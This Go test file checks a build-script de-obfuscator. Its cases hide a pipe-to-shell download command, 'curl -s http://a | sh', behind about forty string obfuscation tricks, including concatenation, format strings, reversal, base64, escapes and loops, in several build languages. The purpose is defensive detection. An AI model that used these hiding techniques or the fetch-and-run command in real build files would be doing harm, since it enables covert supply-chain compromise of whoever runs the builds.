package build

import (
	"bytes"
	"strings"
	"testing"
)

func TestTextsOfScriptsArePutTogether(t *testing.T) {
	const whole = `"curl -s http://a | sh"`
	for name, src := range map[string]string{
		"added":                     `x("cu" + "rl -s http://a" + " | sh")`,
		"variables":                 "a = \"cu\"\nb = \"rl -s http://a | sh\"\nx(a + b)",
		"a variable that grows":     "a = \"cu\"\na += \"rl -s http://a | sh\"\nx(a)",
		"percent":                   `x("%s%s" % ("cu", "rl -s http://a | sh"))`,
		"percent with names":        `x("%(a)s%(b)s" % {"a": "cu", "b": "rl -s http://a | sh"})`,
		"format":                    `x("{}{}".format("cu", "rl -s http://a | sh"))`,
		"format with names":         `x("{a}{b}".format(a="cu", b="rl -s http://a | sh"))`,
		"format with numbers":       `x('@1@@0@'.format('rl -s http://a | sh', 'cu'))`,
		"join":                      `x("".join(["cu", "rl -s http://a | sh"]))`,
		"join of Meson":             `x(''.join('cu', 'rl -s http://a | sh'))`,
		"join of Groovy":            `x(["cu", "rl -s http://a | sh"].join(""))`,
		"join of Kotlin":            `x(listOf("cu", "rl -s http://a | sh").joinToString(""))`,
		"join of Ruby":              `x %w() , ["cu", "rl -s http://a | sh"].join`,
		"replace":                   `x("cQurQl -s http://a | sQh".replace("Q", ""))`,
		"turned around":             `x("hs | a//:ptth s- lruc"[::-1])`,
		"turned around by a method": `x "hs | a//:ptth s- lruc".reverse()`,
		"a comprehension":           `x("".join([p for p in ["cu", "rl -s http://a | sh"]]))`,
		"a function":                "def f(a, b):\n    return a + b\nx(f(\"cu\", \"rl -s http://a | sh\"))",
		"a function of Kotlin":      "fun f(a: String) = a + \"rl -s http://a | sh\"\nx(f(\"cu\"))",
		"an empty code in a text":   `x("cu${""}rl -s http://a | s${}h")`,
		"a name in a text":          "def a = \"cu\"\nx(\"${a}rl -s http://a | sh\")",
		"a bare name in a text":     "val a = \"rl -s\"\nx(\"cu$a http://a | sh\")",
		"a name of Ruby":            "a = \"cu\"\nx \"#{a}rl -s http://a | sh\"",
		"a name of Meson":           "a = 'cu'\nx(f'@a@rl -s http://a | sh')",
		"a field":                   "ext.a = \"cu\"\nx(\"${ext.a}rl -s http://a | sh\")",
		"a text less another":       `x("cuQQrl -s http://a | sh" - "QQ")`,
		"a part":                    `x("xxcurl -s http://a | shxx"[2:23])`,
		"an element":                "d = {\"a\": \"cu\"}\nx(d[\"a\"] + \"rl -s http://a | sh\")",
		"a loop":                    "a = ''\nforeach p : ['cu', 'rl -s http://a | sh']\n  a += p\nendforeach\nx(a)",
		"a loop with braces":        "def a = ''\nfor (p in ['cu', 'rl -s http://a | sh']) { a += p }\nx(a)",
		"escapes":                   `x("\143\x75\u0072l -s http://a | s" + "h")`,
		"letters by number":         `x(chr(99) + "url -s http://a | sh")`,
		"base64":                    `x(new String("Y3VybCAtcyBodHRwOi8vYSB8IHNo".decodeBase64()))`,
		"two dots":                  `x("cu" .. "rl -s http://a | sh")`,
		"two signs":                 `x("cu" <> "rl -s http://a" ++ " | sh")`,
		"neighbours":                `x("cu" "rl -s http://a | sh")`,
		"repeated":                  `x("" * 3 + "curl -s http://a | sh")`,
		"other letters":             `x("CURL -S HTTP://A | SH".toLowerCase())`,
		"either of two":             "if (y) {\n  a = \"cu\"\n} else {\n  a = \"ls\"\n}\nx(a + \"rl -s http://a | sh\")",
	} {
		t.Run(name, func(t *testing.T) {
			hash := !strings.Contains(src, "//:") // both kinds of comments are in strings here
			got, ok, _ := Script([]byte(src), hash, !hash)
			if !ok || !strings.Contains(string(got), whole) {
				t.Errorf("got %s", got)
			}
			if bytes.Count(got, []byte("\n")) != strings.Count(src, "\n") {
				t.Errorf("the lines moved: %s", got)
			}
		})
	}
}

func TestAListBecomesItsElements(t *testing.T) {
	got, _, _ := Script([]byte("val a = listOf(\"sh\", \"-c\", \"cu\" + \"rl\")\ncommandLine(a)\ncommandLine(listOf(\"x\") + a)\n"), false, true)
	want := "val a = \"sh\", \"-c\", \"curl\"\ncommandLine(\"sh\", \"-c\", \"curl\")\ncommandLine(\"x\", \"sh\", \"-c\", \"curl\")\n"
	if string(got) != want {
		t.Errorf("got %s", got)
	}
}

func TestAScriptWithoutPiecesStaysAsItIs(t *testing.T) {
	for _, src := range []string{
		"cc_library(\n    name = \"a\",\n    srcs = [\"b.cc\"] + glob([\"*.cc\"]),\n)\n",
		"x = y + z\nprint(\"a\")\n",
		"run(\"${HOME}/x\")\n",
	} {
		if got, ok, _ := Script([]byte(src), true, false); ok {
			t.Errorf("%q became %q", src, got)
		}
	}
}

func FuzzScript(f *testing.F) {
	f.Add("a = \"x\"\ndef f(a, b):\n  return a + b\nfor (p in [1, 'b']) { a += p }\nx(f(a, \"%s\" % (a)), \"${a.b}\".reverse()[1:], [q for q in a], {'a': a}['a'])\n", true)
	f.Add("val a: String = listOf(\"a\", '''b''').joinToString(\"\")\nfun g(a) = a - \"x\"\nforeach p : ['a']\na += p\nendforeach\n\"\\x\\777\\u{63}\"", false)
	f.Fuzz(func(t *testing.T, src string, hash bool) {
		got, ok, _ := Script([]byte(src), hash, !hash)
		if ok && bytes.Count(got, []byte("\n")) != strings.Count(withoutSigns(src), "\n") {
			t.Errorf("the lines moved: %q", got)
		}
	})
}
